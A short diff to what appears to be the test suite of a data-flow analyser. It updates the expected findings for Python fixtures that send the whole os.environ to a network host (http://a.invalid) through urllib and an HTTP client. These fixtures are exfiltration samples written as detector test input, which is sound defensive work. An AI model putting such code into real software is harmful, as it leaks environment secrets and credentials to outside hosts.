@@ -180,8 +180,8 @@ c.request('POST', '/', str(os.environ))`,
 r = urllib.request.Request('http://a.invalid', data=json.dumps(dict(os.environ)).encode())
 urllib.request.urlopen(r)`,
     [
-      'own.py:3 import flow environment-all os.environ > network-address urllib.request.urlopen «urllib.request.Request»',
-      'own.py:3 import flow environment-all os.environ > network-send urllib.request.urlopen «urllib.request.Request»',
+      'own.py:3 import flow environment-all os.environ > network-address urllib.request.urlopen http://a.invalid',
+      'own.py:3 import flow environment-all os.environ > network-send urllib.request.urlopen http://a.invalid',
     ],
   ],
   [
